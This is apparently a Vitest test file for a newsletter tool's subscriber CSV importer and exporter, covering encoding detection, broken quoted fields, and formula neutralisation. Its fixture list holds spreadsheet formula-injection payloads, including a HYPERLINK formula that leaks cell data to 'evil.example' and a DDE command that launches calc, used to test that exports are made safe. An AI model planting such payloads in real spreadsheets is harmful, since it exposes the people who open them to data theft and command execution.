import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { keyspace } from '../src/config/redis.ts';
import { exportCsv } from '../src/subscribers/export.ts';
import { importCsv, openCsv, type ImportSummary, type Rejection } from '../src/subscribers/import.ts';
import { RedisSubscriberStore } from '../src/subscribers/redis-store.ts';
import { neutralizeFormula, restoreFormula } from '../src/subscribers/spreadsheet-safe.ts';
import { startRedis, type TestRedis } from './support/redis.ts';

// Real files on disk, written byte by byte in the encodings spreadsheets save, read back
// through the importer's file stream as `depesche subscribers import` reads them.

let server: TestRedis;
let redis: Redis;
let dir: string;
let n = 0;
const fresh = () => new RedisSubscriberStore(redis, keyspace(`files${++n}`));

beforeAll(async () => {
  server = await startRedis();
  redis = new Redis(server.url);
  dir = await mkdtemp(join(tmpdir(), 'depesche-import-files-'));
});
afterAll(async () => {
  redis.disconnect();
  await server.stop();
  await rm(dir, { recursive: true, force: true });
});

/** Windows-1252, by the table: Latin-1 for 0xA0–0xFF plus the 0x80–0x9F punctuation Excel uses. */
const CP1252: Record<string, number> = { '€': 0x80, '„': 0x84, '“': 0x93, '”': 0x94, '–': 0x96, '—': 0x97 };
function cp1252(text: string): Buffer {
  return Buffer.from([...text].map((c) => CP1252[c] ?? (c.charCodeAt(0) <= 0xff ? c.charCodeAt(0) : 0x3f)));
}
function utf16le(text: string): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
}

async function importFile(store: RedisSubscriberStore, name: string, bytes: Buffer, options: { encoding?: string } = {}) {
  const file = join(dir, name);
  await writeFile(file, bytes);
  const { stream, source } = await openCsv(file);
  const rejected: Rejection[] = [];
  const report = new PassThrough();
  const chunks: Buffer[] = [];
  report.on('data', (c: Buffer) => chunks.push(c));
  const summary = await importCsv(stream, { store, list: 'l', source, report, onRejected: (r) => rejected.push(r), ...options });
  return { summary, rejected, report: Buffer.concat(chunks).toString('utf8') };
}

const names = async (store: RedisSubscriberStore, ...emails: string[]) => Promise.all(emails.map(async (e) => (await store.findByEmail(e))?.name));

describe('CSV files in the encodings spreadsheets save', () => {
  // What German Excel writes for "CSV (Trennzeichen-getrennt)": Windows-1252, semicolons, CRLF.
  const GERMAN_EXCEL = [
    'E-Mail;Name;Sprache;email;lang',
    'x;Jürgen Müller;de;juergen@example.de;de',
    'x;Maria Groß;de;maria@example.de;de',
    'x;Zoë Ärger-Öztürk;de;zoe@example.de;de',
    'x;Björn Weiß;de;bjoern@example.de;de',
    'x;Renée Dupré;de;renee@example.de;de',
    'x;„Die Zeitung“ – Redaktion;de;redaktion@example.de;de',
    'x;Günther Käßler;de;guenther@example.de;de',
    'x;Anaïs Lefèvre;en;anais@example.de;en',
  ].join('\r\n');

  it('detects Windows-1252 from German Excel and reads every umlaut right, with a note', async () => {
    const store = fresh();
    const { summary } = await importFile(store, 'excel-de.csv', cp1252(GERMAN_EXCEL));
    expect(summary).toMatchObject({ created: 8, rejected: 0, encoding: { name: 'windows-1252', source: 'detected' } });
    expect(summary.encoding.note).toMatch(/not UTF-8; read as Windows-1252/);
    expect(await names(store, 'juergen@example.de', 'maria@example.de', 'zoe@example.de', 'redaktion@example.de', 'anais@example.de')).toEqual([
      'Jürgen Müller',
      'Maria Groß',
      'Zoë Ärger-Öztürk',
      '„Die Zeitung“ – Redaktion',
      'Anaïs Lefèvre',
    ]);
  });

  it('reads UTF-8 with and without a BOM, and UTF-16 from Excel\'s "Unicode text", without a note for UTF-8', async () => {
    const text = 'email,name\r\nj@example.de,Jürgen Müller\r\nr@example.de,„Zitat“ – 5 €\r\n';
    for (const [label, bytes, encoding] of [
      ['utf8.csv', Buffer.from(text, 'utf8'), 'utf-8'],
      ['utf8-bom.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]), 'utf-8'],
      ['unicode.txt', utf16le(text.replaceAll(',', '\t')), 'utf-16le'],
    ] as const) {
      const store = fresh();
      const { summary } = await importFile(store, label, bytes);
      expect([label, summary.created, summary.rejected, summary.encoding.name]).toEqual([label, 2, 0, encoding]);
      expect(summary.encoding.note === undefined).toBe(encoding === 'utf-8');
      expect(await names(store, 'j@example.de', 'r@example.de')).toEqual(['Jürgen Müller', '„Zitat“ – 5 €']);
    }
  });

  it('refuses a file whose encoding cannot be told before writing anything, and imports it once the encoding is named', async () => {
    // Short, and all punctuation: the detector is not sure what this is.
    const bytes = cp1252('email,name\nr@example.de,„Café“ – 5 €\n');
    const store = fresh();
    await expect(importFile(store, 'unsure.csv', bytes)).rejects.toMatchObject({
      code: 'E_INPUT',
      message: expect.stringMatching(/is not UTF-8, and its encoding cannot be told for sure \(detector: .+ %/),
      hint: expect.stringContaining('--encoding windows-1252'),
    });
    expect(await store.lists()).toEqual([]);
    const named = await importFile(store, 'unsure.csv', bytes, { encoding: 'windows-1252' });
    expect(named.summary).toMatchObject({ created: 1, encoding: { name: 'windows-1252', source: 'named' } });
    expect(await names(store, 'r@example.de')).toEqual(['„Café“ – 5 €']);
    await expect(importFile(store, 'unsure.csv', bytes, { encoding: 'klingon' })).rejects.toThrow(/Unknown encoding "klingon"/);
  });

  it('decides on the first non-ASCII row even a megabyte into the file', async () => {
    const rows = ['email,name'];
    for (let i = 0, bytes = 0; bytes < 1.2 * 1024 * 1024; i++) bytes += rows[rows.push(`reader${i}@example.org,Reader ${i}`) - 1]!.length + 1;
    rows.push(...GERMAN_EXCEL.split('\r\n').slice(1).map((line) => line.split(';').slice(3, 4).concat(line.split(';')[1]!).join(',')));
    const store = fresh();
    const { summary } = await importFile(store, 'late.csv', cp1252(rows.join('\n')));
    expect(summary).toMatchObject({ rejected: 0, encoding: { name: 'windows-1252' } });
    expect(summary.created).toBe(rows.length - 1);
    expect(await names(store, 'juergen@example.de', 'guenther@example.de')).toEqual(['Jürgen Müller', 'Günther Käßler']);
  });

  it('rejects, with the reason, a row whose bytes are not UTF-8 in a UTF-8 file, and keeps the rest', async () => {
    // A file pasted together from two sources: UTF-8 with one Windows-1252 row.
    const bytes = Buffer.concat([
      Buffer.from('email,name\na@example.de,Jürgen Müller\nd@example.de,Dörte Weiß\n', 'utf8'),
      cp1252('b@example.de,Jürgen Müller\n'),
      Buffer.from('c@example.de,Groß\n', 'utf8'),
    ]);
    const store = fresh();
    const { summary, rejected } = await importFile(store, 'mixed.csv', bytes);
    expect(summary).toMatchObject({ created: 3, rejected: 1, encoding: { name: 'utf-8', note: expect.stringContaining('some rows hold bytes that are not') } });
    expect(rejected.map((r) => [r.row, r.reason])).toEqual([[4, expect.stringMatching(/^name holds bytes that are not valid in the file's encoding/)]]);
    expect(await names(store, 'a@example.de', 'b@example.de', 'c@example.de')).toEqual(['Jürgen Müller', undefined, 'Groß']);
  });
});

describe('where a record ends', () => {
  // One file with both kinds of trouble: stray quotes (which must spoil only their own row)
  // and quoted fields over several lines (which must import).
  const FILE = [
    'email,name,lang',
    'a@example.org,Anna,de', // 2
    'sa@,"Anna', // 3: opened, never closed
    'b@example.org,Bob,en', // 4
    'c@example.org,Carl",de', // 5: a quote that would close row 3's field
    'd@example.org,"Dora', // 6: a name over two lines
    'Schmidt",de',
    'e@example.org,"Eva', // 7: over three lines, CRLF inside
    'Maria\r',
    'Meier",en',
    'f@example.org,"Frank,de', // 8: opened, and the next line starts a row
    'g@example.org,"Gina ""G"" Gold",en', // 9
    'h@example.org,Hans,de', // 10
  ].join('\n');

  it('spoils only the row with a stray quote, imports names over several lines as one line, and counts every row', async () => {
    const store = fresh();
    const { summary, rejected, report } = await importFile(store, 'quotes.csv', Buffer.from(FILE, 'utf8'));
    expect(rejected.map((r) => [r.row, r.reason])).toEqual([
      [3, 'malformed CSV: a quoted field is never closed'],
      [8, 'malformed CSV: a quoted field is never closed'],
    ]);
    expect(summary).toMatchObject({ rows: 9, created: 7, rejected: 2, joinedLines: 2 });
    expect(await names(store, 'a@example.org', 'b@example.org', 'c@example.org', 'd@example.org', 'e@example.org', 'g@example.org', 'h@example.org')).toEqual([
      'Anna',
      'Bob',
      'Carl"',
      'Dora Schmidt',
      'Eva Maria Meier',
      'Gina "G" Gold',
      'Hans',
    ]);
    // The report holds the broken rows as written, to fix and import again.
    expect((parse(report, { columns: true }) as Record<string, string>[]).map((r) => [r.row, r.email])).toEqual([
      ['3', 'sa@,"Anna'],
      ['8', 'f@example.org,"Frank,de'],
    ]);
  });

  it('tells a row start from a name line when the address is not the first column', async () => {
    const store = fresh();
    const text = ['name;email', '"Anna', 'Berger";anna@example.org', '"Bob;bob@example.org', 'Carl;carl@example.org'].join('\n');
    const { summary, rejected } = await importFile(store, 'name-first.csv', Buffer.from(text, 'utf8'));
    expect(rejected.map((r) => r.row)).toEqual([3]);
    expect(summary).toMatchObject({ created: 2, rejected: 1 });
    expect(await names(store, 'anna@example.org', 'carl@example.org')).toEqual(['Anna Berger', 'Carl']);
  });
});

describe('formulas in names, through export and import', () => {
  const NASTY: [string, string][] = [
    ['link@example.org', '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'],
    ['dde@example.org', "=cmd|' /C calc'!A0"],
    ['plus@example.org', '+49 30 1234567'],
    ['minus@example.org', '-Anna'],
    ['at@example.org', '@SUM(1+1)'],
    ['quoted@example.org', "'=already quoted"],
    ['twice@example.org', "''=twice"],
    ['apostrophe@example.org', "'Tis Jones"],
    ['plain@example.org', 'Plain, "quoted" Name'],
    ['-dash@example.org', 'Dash address'],
    ['=eq@example.org', 'Equals address'],
  ];

  it('neutralises every formula on export, and an import gives back exactly what was stored', async () => {
    const source = fresh();
    await source.upsertMany(NASTY.map(([email, name]) => ({ email, name })), 'nasty', { defaultStatus: 'active', source: 'test' });
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    await exportCsv(source, 'nasty', out);
    const text = Buffer.concat(chunks).toString('utf8');
    // What a spreadsheet would see: no cell starts a formula.
    for (const row of parse(text, { from_line: 2 }) as string[][]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);

    const target = fresh();
    const { summary } = await importFile(target, 'nasty-export.csv', Buffer.from(text, 'utf8'));
    expect(summary).toMatchObject({ created: NASTY.length, rejected: 0 });
    for (const [email, name] of NASTY) expect(await target.findByEmail(email)).toMatchObject({ email, name });
    // And round again: the second export is the first, byte for byte.
    const again = new PassThrough();
    const againChunks: Buffer[] = [];
    again.on('data', (c: Buffer) => againChunks.push(c));
    await exportCsv(target, 'l', again);
    expect(Buffer.concat(againChunks).toString('utf8')).toBe(text);
  });

  it('is a bijection on the values that matter', () => {
    for (const value of ['', "'", "''", '=', "'=", "''=", '-', '\t', 'x=1', "'x", 'normal', ...NASTY.map(([, name]) => name)]) {
      expect(restoreFormula(neutralizeFormula(value))).toBe(value);
    }
  });
});

// The summary type is part of the browser upload's contract; keep its fields in view.
export type { ImportSummary };
